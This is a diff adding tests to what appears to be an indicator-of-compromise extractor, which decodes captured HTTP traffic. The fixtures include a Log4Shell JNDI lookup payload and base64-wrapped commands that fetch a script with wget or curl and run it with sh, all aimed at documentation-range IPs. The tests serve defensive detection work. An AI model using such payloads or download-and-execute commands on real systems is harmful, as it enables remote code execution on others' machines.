@@ -149,7 +149,7 @@ describe('false-positive traps', () => {
       .join('')));
     expect(iocs.domains).toEqual(['c2.example.net']);
     expect(iocs.ips).toEqual(['198.51.100.5', '198.51.100.6']);
-    expect(iocs.urls).toEqual(['http://198.51.100.6/s']);
+    expect(iocs.urls).toEqual(['ldap://198.51.100.5:1389/a', 'http://198.51.100.6/s']);
   });
 
   it('lists a command once when a layer only drops its needless backslashes', () => {
@@ -190,6 +190,32 @@ describe('shell obfuscation from real droppers', () => {
     expect(iocs.downloads.some((d) => d.startsWith('wget http://198.51.100.31/bins.sh')))
       .toBe(true);
     expect(iocs.files).toContain('bins.sh');
+  });
+});
+
+describe('Log4Shell', () => {
+  const b64 = (text: string): string => Buffer.from(text).toString('base64');
+
+  it('lists the lookup\'s URL and the download its base64 command makes', () => {
+    const command = 'wget http://198.51.100.7/x.sh -O /tmp/x; sh /tmp/x';
+    const payload = 'GET / HTTP/1.1\r\nHost: 203.0.113.10\r\nX-Api-Version: ${${lower:j}ndi:'
+      + `ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(command)}}\r\n\r\n`;
+    const iocs = extractIocs(event(payload));
+    expect(iocs.urls).toEqual([
+      `ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(command)}`,
+      'http://198.51.100.7/x.sh',
+    ]);
+    expect(iocs.ips).toEqual(['198.51.100.5', '198.51.100.7']);
+    expect(iocs.downloads).toEqual(['wget http://198.51.100.7/x.sh -O /tmp/x']);
+    expect(iocs.files).toEqual(['x.sh', 'x']);
+  });
+
+  it('reaches a download under four layers of base64', () => {
+    let blob = 'curl -s http://198.51.100.9/four | sh';
+    for (let i = 0; i < 4; i++) blob = b64(blob);
+    const iocs = extractIocs(event(`POST / HTTP/1.1\r\n\r\nx=${blob}`));
+    expect(iocs.urls).toEqual(['http://198.51.100.9/four']);
+    expect(iocs.downloads).toEqual(['curl -s http://198.51.100.9/four']);
   });
 });
 
